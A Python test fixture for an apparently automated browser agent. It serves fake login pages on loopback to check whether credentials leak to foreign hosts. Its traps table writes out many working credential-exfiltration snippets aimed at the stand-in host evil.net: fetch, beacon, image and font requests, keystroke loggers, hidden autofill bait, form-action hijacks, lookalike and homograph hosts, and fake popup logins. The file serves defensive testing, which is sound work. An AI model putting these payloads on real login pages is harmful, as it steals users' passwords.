"""Ways to a login that is not the target's own, each served over real TLS on loopback; the foreign hosts write down all that
they receive.

Every app has a true login behind «Sign in here» as well (at `/signin`), unless the trap is that login itself.
"""

from __future__ import annotations

import base64
from collections.abc import Mapping, Sequence
from dataclasses import dataclass, field
from pathlib import Path

from aiohttp import web

from explorer.request.credential import Login
from explorer.request.spelling import Spellings
from explorer.run.run_outcome import RunOutcome
from tests.journeys.foreign import explored, served

USER, PASSWORD = "annabel.quist@desk.com", "Tr0ub4dor & 3/ü"
OWN, EVIL, LOOKS, LETTERS = "portal.desk.com", "evil.net", "portal.desk.com.evil.net", "portal.xn--dsk-rdd.com"
MINE, YOURS, PROVIDER = "mine.github.io", "yours.github.io", "id.provider.org"
FIELDS = "<label>User name <input name=user autocomplete=username></label><label>Password <input type=password name=password></label>"


def form(action: str, more: str = "", method: str = "post", button: str = "<button>Log in</button>") -> str:
    """A login form."""
    return f'<form id=f method={method} action="{action}">{FIELDS}{more}{button}</form>'


@dataclass(frozen=True, slots=True)
class Trap:
    """One way. `pages` are the own app's (`{evil}` and `{own}` become origins), `foreign` the other hosts' in place of a plain
    login form; `answers` gives a path another answer to a POST: a status and where it leads.

    `door` is where the link «Log in» of the first page goes; empty for none. `is_login`: the app's true login is the trap.
    """

    door: str = "/login"
    home: str = ""
    pages: Mapping[str, str] = field(default_factory=dict)
    moves: Mapping[str, tuple[int, str]] = field(default_factory=dict)
    posts: Mapping[str, tuple[int, str]] = field(default_factory=dict)
    foreign: Mapping[str, str] = field(default_factory=dict)
    inside: str = ""
    is_login: bool = False
    own: str = OWN
    finding: str = ""
    journeys: tuple[str, ...] = ("login",)


FRAME = '<iframe width=600 height=300 src="{evil}/login"></iframe>'
SENDS = "<script>f.addEventListener('submit',()=>{%s})</script>"
PW = "f.password.value"
STOPPED, ASKED = "credential-leak-stopped", "login-at-foreign-site"


def _sent(code: str) -> Trap:
    """The app's own login, whose script sends the password elsewhere as well."""
    return Trap(door="", pages={"/signin": form("/signin") + SENDS % code}, is_login=True, finding=STOPPED)


def _covered(code: str) -> Trap:
    """The app's own login, over which a foreign one comes up in a window of its own."""
    pages = {"/signin": form("/signin") + f"<script>{code}</script>"}
    return Trap(door="", pages=pages, is_login=True, finding=ASKED)


TRAPS: dict[str, Trap] = {
    "link": Trap("{evil}/login", finding=ASKED),
    "frame": Trap(pages={"/login": FRAME}, finding=ASKED),
    "frame on the first page": Trap(door="", home=FRAME, finding=ASKED),
    "nested frame": Trap(
        pages={"/login": "<iframe width=700 height=400 src=/in></iframe>", "/in": FRAME}, finding=ASKED
    ),
    "redirect by header": Trap(moves={"/login": (302, "{evil}/login")}, finding=ASKED),
    "two redirects": Trap(moves={"/login": (301, "/go"), "/go": (303, "{evil}/login")}, finding=ASKED),
    "meta refresh": Trap(pages={"/login": '<meta http-equiv=refresh content="0;url={evil}/login">'}, finding=ASKED),
    "script": Trap(pages={"/login": "<script>location='{evil}/login'</script>"}, finding=ASKED),
    "popup": Trap(door="", home="<button onclick=\"window.open('{evil}/login')\">Log in</button>", finding=ASKED),
    "new tab": Trap(door="", home='<a target=_blank href="{evil}/login">Log in</a>', finding=ASKED),
    "opener navigation": Trap(
        door="",
        home='<a target=_blank rel=opener href="{evil}/opens">Log in</a>',
        foreign={"/opens": "<script>opener.location='{evil}/login'</script><script>close()</script>"},
    ),
    "history": Trap(
        pages={"/login": "<script>history.pushState(1,'','/x');location='{evil}/back'</script>"},
        foreign={"/back": "<script>history.pushState(1,'','/login')</script>" + form("/take")},
        finding=ASKED,
    ),
    "same-looking host": Trap("{looks}/login", finding=ASKED),
    "IDN homograph": Trap("{letters}/login", finding=ASKED),
    "neighbour below a public suffix": Trap("{yours}/login", own=MINE, finding=ASKED),
    "foreign data document": Trap(
        "{evil}/d",
        foreign={
            "/d": "<iframe width=600 height=300 src=\"data:text/html,<form action='{evil}/take' method=post><input name=user placeholder=Username><input type=password name=p><button>Log in</button></form>\"></iframe>"
        },
    ),
    "foreign blob document": Trap(
        "{evil}/b",
        foreign={
            "/b": "<script>location=URL.createObjectURL(new Blob([`"
            + form("{evil}/take")
            + "`],{type:'text/html'}))</script>"
        },
    ),
    "foreign srcdoc frame": Trap(
        pages={"/login": '<iframe width=700 height=400 src="{evil}/s"></iframe>'},
        foreign={"/s": "<iframe width=600 height=300 srcdoc='" + form("{evil}/take").replace("'", "") + "'></iframe>"},
    ),
    "foreign blank frame": Trap(
        pages={"/login": '<iframe width=700 height=400 src="{evil}/w"></iframe>'},
        foreign={
            "/w": "<iframe width=600 height=300 id=i></iframe><script>i.contentDocument.write(`"
            + form("{evil}/take")
            + "`)</script>"
        },
    ),
    "sandboxed frame": Trap(pages={"/login": FRAME.replace("<iframe", "<iframe sandbox='allow-forms allow-scripts'")}),
    "foreign shadow root": Trap(
        "{evil}/shadow",
        foreign={
            "/shadow": "<div id=d></div><script>d.attachShadow({mode:'open'}).innerHTML=`"
            + form("/take")
            + "`</script>"
        },
    ),
    "frame in a shadow root": Trap(
        pages={"/login": "<div id=d></div><script>d.attachShadow({mode:'open'}).innerHTML=`" + FRAME + "`</script>"}
    ),
    "session expired, after the login": Trap(
        door="",
        inside="<a href=/mine>My account</a>",
        pages={"/mine": "<p role=alert>Your session has expired. Please log in again.</p>" + FRAME},
        journeys=("login", "account-info"),
    ),
    "another tab, after the login": Trap(
        door="",
        inside="<button onclick=\"window.open('{evil}/login')\">My account</button>",
        journeys=("login", "account-info"),
    ),
    "browser's own question": Trap(moves={"/login": (302, "{evil}/basic")}, finding=ASKED),
    "form action": Trap(pages={"/login": form("{evil}/take")}, finding=STOPPED),
    "form that hides its action": Trap(
        pages={
            "/login": form(
                "{evil}/take", "<input type=hidden name=action value='/x'><input type=hidden name=hasAttribute>"
            )
        },
        finding=STOPPED,
    ),
    "form by GET": Trap(pages={"/login": form("{evil}/take", method="get")}, finding=STOPPED),
    "form action of the button": Trap(
        pages={"/login": form("/signin", button='<button formaction="{evil}/take">Log in</button>')}, finding=STOPPED
    ),
    "action changed while sending": Trap(
        pages={"/login": form("/signin") + SENDS % "f.action='{evil}/take'"}, finding=STOPPED
    ),
    "form into a frame": Trap(
        pages={
            "/login": "<iframe name=x style=display:none></iframe>"
            + form("/signin").replace("<form", "<form target=x")
            + SENDS % "f.action='{evil}/take'"
        },
        finding=STOPPED,
    ),
    "307 after the post": Trap(
        pages={"/login": form("/login")}, posts={"/login": (307, "{evil}/take")}, finding=STOPPED
    ),
    "308 after the post": Trap(
        pages={"/login": form("/login")}, posts={"/login": (308, "{evil}/take")}, finding=STOPPED
    ),
    "answer that carries it on": Trap(
        pages={"/login": form("/login")}, posts={"/login": (303, "{evil}/take?u={user}&p={password}")}, finding=STOPPED
    ),
    "user name first": Trap(
        pages={
            "/login": "<form method=post action=/login><label>User name <input name=user autocomplete=username></label><button>Log in</button></form>"
        },
        posts={"/login": (303, "{evil}/login?login_hint={user}")},
        finding=STOPPED,
    ),
    "fetch": _sent("fetch('{evil}/take',{method:'POST',mode:'no-cors',body:" + PW + ",keepalive:true})"),
    "fetch of JSON": _sent(
        "fetch('{evil}/take',{method:'POST',mode:'no-cors',body:JSON.stringify({a:{b:" + PW + "}})})"
    ),
    "fetch of Base64": _sent(
        "fetch('{evil}/take?x='+btoa(unescape(encodeURIComponent('..'+" + PW + "))),{mode:'no-cors'})"
    ),
    "fetch of a file": _sent("fetch('{evil}/take',{method:'POST',mode:'no-cors',body:new Blob([" + PW + "])})"),
    "XHR": _sent(
        "const x=new XMLHttpRequest();x.open('POST','{evil}/take');x.send('q='+encodeURIComponent(" + PW + "))"
    ),
    "beacon": _sent("navigator.sendBeacon('{evil}/take',new URLSearchParams({p:" + PW + "}))"),
    "beacon while leaving": Trap(
        door="",
        pages={
            "/signin": form("/signin")
            + "<script>let v;f.password.oninput=e=>v=e.target.value;addEventListener('pagehide',()=>navigator.sendBeacon('{evil}/take',v))</script>"
        },
        is_login=True,
        finding=STOPPED,
    ),
    "fetched ahead": _sent(
        "const l=document.createElement('link');l.rel='prefetch';l.href='{evil}/take?p='+encodeURIComponent("
        + PW
        + ");document.head.append(l)"
    ),
    "background": _sent("document.body.style.backgroundImage=`url({evil}/take?p=${encodeURIComponent(" + PW + ")})`"),
    "font": _sent("new FontFace('x',`url({evil}/take?p=${encodeURIComponent(" + PW + ")})`).load()"),
    "ping of a link": _sent(
        "const a=document.createElement('a');a.href='#';a.ping='{evil}/take?p='+encodeURIComponent("
        + PW
        + ");a.click()"
    ),
    "form into a new window": _sent(
        "const g=document.createElement('form');g.target='_blank';g.method='post';g.action='{evil}/take';"
        "const q=document.createElement('input');q.name='q';q.value="
        + PW
        + ";g.append(q);document.body.append(g);g.submit()"
    ),
    "button with an address of its own": Trap(
        pages={"/login": form("/signin", button="<button formaction='{evil}/take'>Log in</button>")}, finding=STOPPED
    ),
    "foreign window as the login opens": _covered("window.open('{evil}/login')"),
    "foreign window at the first key": _covered("f.user.onfocus=()=>window.open('{evil}/login')"),
    "foreign window as the login is sent": _covered("f.onsubmit=()=>{window.open('{evil}/login')}"),
    "form below a foreign base": Trap(pages={"/login": '<base href="{evil}/">' + form("take")}, finding=STOPPED),
    "empty window that gets an address": _sent("open('').location='{evil}/take?p='+encodeURIComponent(" + PW + ")"),
    "picture": _sent("new Image().src='{evil}/take?p='+encodeURIComponent(" + PW + ")"),
    "picture at each key": Trap(
        door="",
        pages={
            "/signin": form("/signin")
            + "<script>f.oninput=e=>{new Image().src='{evil}/take/'+encodeURIComponent(e.target.value)}</script>"
        },
        is_login=True,
        finding=STOPPED,
    ),
    "worker": _sent(
        "if(f.sent)return;event.preventDefault();f.sent=1;const w=new Worker(URL.createObjectURL(new Blob(["
        "'onmessage=e=>fetch(e.data[0],{method:`POST`,mode:`no-cors`,body:e.data[1]}).finally(()=>postMessage(1))'])));"
        "w.onmessage=()=>f.submit();w.postMessage(['{evil}/take'," + PW + "])"
    ),
    "message to a foreign frame": Trap(
        door="",
        pages={
            "/signin": form("/signin")
            + '<iframe id=i src="{evil}/listens"></iframe>'
            + SENDS % ("i.contentWindow.postMessage(" + PW + ",'*')")
        },
        foreign={"/listens": "<script>onmessage=e=>fetch('/take',{method:'POST',body:e.data,keepalive:true})</script>"},
        is_login=True,
        finding=STOPPED,
    ),
    "popup with it in its address": _sent("open('{evil}/take?p='+encodeURIComponent(" + PW + "))"),
    "referrer": Trap(
        door="",
        pages={"/signin": "<meta name=referrer content=unsafe-url>" + form("/signin", method="get")},
        inside='<img src="{evil}/pixel.png" referrerpolicy=unsafe-url>',
        is_login=True,
        finding=STOPPED,
    ),
    "autofill bait": Trap(
        door="",
        pages={
            "/signin": form(
                "/signin",
                "<div style='position:absolute;left:-9999px'><input name=user2 autocomplete=username><input type=password name=password2 autocomplete=current-password></div>",
            )
            + SENDS % "fetch('{evil}/take',{method:'POST',mode:'no-cors',body:f.user2.value+f.password2.value})"
        },
        is_login=True,
    ),
}
"""Name → way. `finding` is what the report tells, where that is certain."""


@dataclass
class Apps:
    """The target and the hosts around it."""

    trap: Trap
    origins: Mapping[str, str] = field(default_factory=dict)
    received: list[str] = field(default_factory=list)
    """All that hosts received which must not have the login."""
    cookies: list[str] = field(default_factory=list)
    """The cookies that the target's own host received."""
    tries: list[tuple[str, str]] = field(default_factory=list)
    """What was sent to the target's own login."""

    def filled(self, text: str) -> str:
        places = {"{own}": self.trap.own, "{evil}": EVIL, "{looks}": LOOKS, "{letters}": LETTERS, "{yours}": YOURS}
        for mark, host in {**places, "{provider}": PROVIDER}.items():
            text = text.replace(mark, self.origins.get(host, ""))
        return text

    async def answer(self, request: web.Request) -> web.StreamResponse:
        """One request of any host."""
        body = await request.read()
        host = request.host.partition(":")[0]
        if host in (self.trap.own, PROVIDER):
            self.cookies.append(request.headers.get("Cookie", ""))
            return await self._own(request)
        heads = "\n".join(f"{k.decode('latin-1')}: {v.decode('latin-1')}" for k, v in request.raw_headers)
        self.received.append(
            f"{request.method} {request.raw_path}\n{heads}\n\n{body.decode('latin-1')}\n{body.decode('utf-8', 'replace')}"
        )
        path = request.path
        if path == "/basic" and "Authorization" not in request.headers:
            return web.Response(status=401, headers={"WWW-Authenticate": 'Basic realm="desk"'})
        if path.startswith(("/take", "/basic")):
            return _page("<h1>Welcome back</h1><a href=/out>Log out</a>")
        return _page(self.filled(self.trap.foreign.get(path, form("/take"))))

    async def _own(self, request: web.Request) -> web.StreamResponse:
        trap, path = self.trap, request.path
        given = {**request.query, **{k: str(v) for k, v in (await request.post()).items()}}
        if request.method == "POST" and path in trap.posts:
            status, to = trap.posts[path]
            to = to.replace("{user}", given.get("user", "")).replace("{password}", given.get("password", ""))
            return web.Response(status=status, headers={"Location": self.filled(to)})
        if path in trap.moves:
            status, to = trap.moves[path]
            return web.Response(status=status, headers={"Location": self.filled(to)})
        if path == "/signin" and "password" in given:
            self.tries.append((given["user"], given["password"]))
            if self.tries[-1] != (USER, PASSWORD):
                return _page("<p role=alert>Login failed: wrong password.</p>" + form("/signin"))
            return _page(
                self.filled(f"<h1>Welcome back</h1><p>You are logged in.</p><a href=/out>Log out</a>{trap.inside}")
            )
        if path in trap.pages:
            return _page(self.filled(trap.pages[path]))
        if path == "/signin":
            return _page(form("/signin"))
        door = f'<a href="{self.filled(trap.door)}">Log in</a> ' if trap.door else ""
        return _page(
            f"<nav>{door}<a href=/signin>Sign in here</a></nav><h1>Support portal</h1>{self.filled(trap.home)}"
        )


def _page(body: str) -> web.Response:
    return web.Response(
        text=f"<!doctype html><html lang=en><title>Portal</title><main>{body}</main>", content_type="text/html"
    )


async def walked(trap: Trap, folder: Path, named: str = "", **more: object) -> tuple[Apps, RunOutcome]:
    """What the foreign hosts received, and what the run came to; `named` is an origin for `--login-at`."""
    apps = Apps(trap)
    hosts = [trap.own, EVIL, LOOKS, LETTERS, YOURS, PROVIDER]
    async with served(apps.answer, hosts, {}, folder) as (origins, root):
        apps.origins = origins
        options: dict[str, object] = {"login": Login.of(USER, PASSWORD), "steps": 25, "probe": False}
        if named:
            options["login_at"] = (apps.filled(named),)
        outcome = await explored(origins, root, folder, trap.journeys, **{**options, **more})
    return apps, outcome


def leaked(apps: Apps) -> list[str]:
    """What a foreign host received of the login, however it was spelled."""
    secrets = Spellings([USER, PASSWORD], [f"{USER}:{PASSWORD}"])
    return [text for text in apps.received if secrets.shown(text) or _opened(text, secrets)]


def _opened(text: str, secrets: Spellings) -> bool:
    for word in text.replace("=", " ").split():
        try:
            if secrets.shown(base64.b64decode(word + "===").decode("utf-8", "ignore")):
                return True
        except ValueError:
            continue
    return False


def names(sequence: Sequence[str]) -> list[str]:
    """Names of traps as ids of tests."""
    return [name.replace(" ", "-") for name in sequence]
